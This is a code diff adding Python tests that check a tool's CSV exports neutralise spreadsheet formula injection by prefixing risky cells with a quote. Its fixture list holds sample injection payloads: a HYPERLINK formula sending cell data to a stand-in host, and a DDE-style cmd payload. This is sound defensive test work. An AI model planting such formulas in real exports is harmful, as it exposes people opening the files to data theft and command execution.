@@ -293,3 +293,63 @@ def test_not_a_zip_named_xlsx(seeded, tmp_path, capsys):  # noqa: F811
     path.write_bytes(b"PK\x03\x04 not really a zip")
     err = refused(seeded, [str(path)], capsys)
     assert f"{path}: not a readable .xlsx workbook (BadZipFile" in err
+
+
+# -- case 5: exports a spreadsheet would run ------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tx", "\rx"]
+
+
+def test_items_csv_neutralises_formulas(tmp_path, capsys):
+    import csv
+    import io
+
+    df = table_frame("m2")
+    df["question"] = FORMULAS
+    df["item_id"] = ["=1+1", "@A1", "+7", "-7", "001-1", "001-2"]
+    df["task_type"] = ["+1+1", "ok", "=x", "ok", "ok", "ok"]
+    root = tmp_path / "store"
+    assert main(["ingest", str(write_table(tmp_path / "in", "jsonl", df=df)), "--store", str(root)]) == 0
+    capsys.readouterr()
+    assert main(["items", "--store", str(root), "--model", "m2", "--format", "csv"]) == 0
+    out = capsys.readouterr().out
+    table = list(csv.DictReader(io.StringIO(out, newline="")))
+    by_id = {r["item_id"]: r for r in table}
+    assert set(by_id) == {"'=1+1", "'@A1", "'+7", "'-7", "001-1", "001-2"}
+    questions = sorted(r["question"] for r in table)
+    assert questions == sorted("'" + f for f in FORMULAS)
+    assert by_id["'=1+1"]["task_type"] == "'+1+1" and by_id["'+7"]["task_type"] == "'=x"
+    # numbers stay numbers: the 0/1 trajectory and the confidences are unquoted, unprefixed
+    assert by_id["'=1+1"]["16f"] in ("0", "1") and float(by_id["'=1+1"]["confidence:16f"]) == 0.9
+    assert not any(line.startswith(("=", "+", "-", "@")) for line in out.splitlines())
+
+
+def test_spreadsheet_safe_keeps_numbers_and_plain_text():
+    from backend.export import csv_text, spreadsheet_safe
+
+    df = pd.DataFrame(
+        {
+            "text": ["=a", "b", None, "-x"],
+            "n": [-1, 2, 3, -4],
+            "f": [-0.5, 1.0, None, 2.0],
+            "mixed": pd.Series([-1, "-1", 2.5, "@x"], dtype=object),
+            "cat": pd.Categorical(["+a", "b", "+a", "c"]),
+            "=name": [1, 2, 3, 4],
+        }
+    )
+    safe = spreadsheet_safe(df)
+    assert safe["text"].tolist()[:2] == ["'=a", "b"] and pd.isna(safe["text"][2]) and safe["text"][3] == "'-x"
+    assert safe["n"].tolist() == [-1, 2, 3, -4] and safe["n"].dtype == df["n"].dtype
+    assert safe["mixed"].tolist() == [-1, "'-1", 2.5, "'@x"]
+    assert safe["cat"].tolist() == ["'+a", "b", "'+a", "c"]
+    assert list(safe.columns) == ["text", "n", "f", "mixed", "cat", "'=name"]
+    assert df["text"][0] == "=a"  # the input frame is untouched
+    assert csv_text(df).splitlines()[1] == '"\'=a",-1,-0.5,-1,"\'+a",1'
+
+
+def test_page_downloads_use_the_same_writer():
+    from backend.export import csv_text
+    from pages.common.data import csv_bytes
+
+    df = pd.DataFrame({"q": FORMULAS, "n": range(len(FORMULAS))})
+    assert csv_bytes(df) == csv_text(df).encode()
+    assert b'"=HYPERLINK' not in csv_bytes(df) and b"\"'=HYPERLINK" in csv_bytes(df)
